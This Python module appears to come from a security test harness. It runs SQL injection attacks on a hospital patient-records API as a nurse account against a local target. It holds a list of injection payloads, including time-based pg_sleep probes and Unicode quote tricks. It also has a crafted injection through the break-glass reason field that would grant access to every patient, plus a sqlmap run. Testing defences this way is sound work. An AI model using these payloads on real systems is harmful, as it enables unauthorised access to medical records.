"""SQL injection through every parameter: of the machine face, of the pages, of sign-in; with sqlmap too where it is installed.

Owns: the payloads of its own, which run always, and sqlmap (Debian's), which runs where it is; `siege.notes` says
which did. Refuses: denial of service.
"""

import shutil
import subprocess
import tempfile
import time
from collections.abc import Iterator

from cloison.simulator.siege.attack import Attack, Siege
from cloison.simulator.siege.session import Session

SLEEP = 3
PAYLOADS = (
    "'", "''", "\\'", '"', "' or '1'='1", "1; select pg_sleep(3)--", "'; select pg_sleep(3)--", "') ; select pg_sleep(3)--",
    "'||(select pg_sleep(3))||'", "$$;select pg_sleep(3);$$", "{1,2}", "\u02bc or 1=1--", "%27%20or%201=1", "x' when 'x' then pg_sleep(3)::text::int end; --",
)  # fmt: skip
WIDENED = (
    'insert into "access"."relationship" (patient_id, holder, kind, since, site_id, made_by, made_at) '
    "select p.id, '{unit}', 'ward_presence', now() - interval '1 hour', p.site_id, a.id, now() "
    'from "records"."patient" p, "directory"."account" a where a.role = \'system\'; '
    'update "access"."ceiling" set day = 1900, week = 1900, hour = 1900, quarter_hour = 1900'
)
"""What an injection into the gate's own rights would write; the second statement fails where the gate may not."""
SPOILT = "vital_emergency' when 'x' then 4 end; {evil}; select case 'vital_emergency"


def run(siege: Siege) -> None:
    """Every parameter, with a stopwatch; then the one payload that would widen the nurse's own care; then sqlmap."""
    nurse, browser = siege.enter("nurse"), siege.browse("nurse")
    slow, faults, tried = 0, 0, 0
    for send in siege.tried(list(_requests(nurse, siege.patients[0].id))):
        began = time.monotonic()
        status = send()
        tried, slow = tried + 1, slow + (time.monotonic() - began > SLEEP)
        faults += status >= 500
    for payload in siege.tried(PAYLOADS):
        browser.post("/rechercher", born=payload, family=payload, given=payload, number=payload, kind=payload)
        browser.get(
            f"/patient/{payload.replace('/', '')}/".replace(" ", "%20").encode("ascii", "ignore").decode()
        )
    siege.notes |= {"requests of its own": tried, "that slept": slow, "answered 5xx": faults}
    unit = siege.unit_of(nurse.username)
    for evil in WIDENED.split("; "):
        nurse.break_glass(siege.patients[1].id, SPOILT.format(evil=evil.format(unit=unit)))
    for patient in siege.tried([p.id for p in siege.patients], nurse):
        nurse.open(patient)
    if siege.target.defended:
        siege.notes["sqlmap"] = _sqlmap(siege)


def _requests(nurse: Session, patient: str) -> Iterator["Send"]:
    for payload in PAYLOADS:
        plain = payload.encode("ascii", "ignore").decode()
        quoted = plain.replace("%", "%25").replace(" ", "%20").replace("'", "%27").replace("#", "%23")
        for name in (
            "birthdate",
            "family",
            "given",
            "identifier",
            "identifier:of-type",
            "_format",
            "_id",
            "patient",
        ):
            yield Send(nurse, "POST", "/Patient/_search", form={name: payload})
            yield Send(nurse, "POST", "/Observation/_search", form={"patient": patient, name: payload})
        for path in (
            "/Patient/{x}",
            "/{x}",
            "/Patient/{x}/{x}",
            "/Observation/{x}?patient={x}",
            "/Observation?patient={x}",
        ):
            yield Send(nurse, "GET", path.format(x=quoted.replace("/", "")))
        for header in (
            "X-Purpose-Of-Use",
            "X-Reason",
            "X-Sealed-Reason",
            "If-Match",
            "Accept",
            "X-Request-Id",
        ):
            yield Send(nurse, "GET", f"/Patient/{patient}", headers={header: plain + " " * 10 + "x"})
        for body in (
            {"resourceType": "Observation", "status": payload, "code": {"text": payload}, "subject": {"reference": payload}},
            {"resourceType": "Parameters", "parameter": [{"name": "reasonCode", "valueCode": payload}]},
            {"resourceType": "Encounter", "status": "planned", "class": {"code": payload}, "subject": {"reference": f"Patient/{patient}"},
             "location": [{"location": {"reference": f"Location/{payload}"}}], "period": {"start": payload}},
        ):  # fmt: skip
            kind = body["resourceType"]
            yield Send(
                nurse,
                "POST",
                f"/Patient/{patient}/$break-glass" if kind == "Parameters" else f"/{kind}",
                body=body,
            )


class Send:
    """One request, to be sent when it is called; returns its status."""

    def __init__(self, nurse: Session, method: str, path: str, **more: object) -> None:
        self.nurse, self.method, self.path, self.more = nurse, method, path, more

    def __call__(self) -> int:
        """Send it."""
        return self.nurse.send(self.method, self.path, **self.more).status  # type: ignore[arg-type]


def _sqlmap(siege: Siege) -> str:
    """Let sqlmap try three addresses for half a minute each; say what it found, or that it is not there."""
    program = shutil.which("sqlmap")
    if program is None:
        return "not installed: payloads of our own alone"
    token = siege.target.token(siege.account("nurse", 2))
    root, found = f"http://127.0.0.1:{siege.target.port}", []
    for address, form in (
        (f"{root}/fhir/R4/Patient/_search", "birthdate=1950-01-01&family=MAR&given=JEA"),
        (f"{root}/fhir/R4/Patient/_search", "identifier=12345678"),
        (f"{root}/fhir/R4/Observation/_search", "patient=00000000-0000-4000-8000-000000000001&_id=1"),
    ):
        with tempfile.TemporaryDirectory() as folder:
            command = [program, "--batch", "--disable-coloring", "--flush-session", "--output-dir", folder, "-u", address, "--data", form,
                       "--headers", f"Authorization: Bearer {token}", "--dbms", "PostgreSQL", "--level", "1", "--risk", "1",
                       "--ignore-code", "401,403,404,429", "--technique", "BET", "--time-sec", "2"]  # fmt: skip
            try:
                said = subprocess.run(command, capture_output=True, text=True, check=False, timeout=30).stdout
            except subprocess.TimeoutExpired as late:
                said = (late.stdout or b"").decode(errors="replace") + "\nstopped after 30 s"
        found.append(
            "injectable"
            if "is vulnerable" in said or "identified the following injection" in said
            else "nothing"
        )
    return f"{program}, three addresses, level 1: {', '.join(found)}"


ATTACK = Attack(
    "SQL injection through every parameter", "nurse", ("parameters_only", "counting"), run, patience=40
)
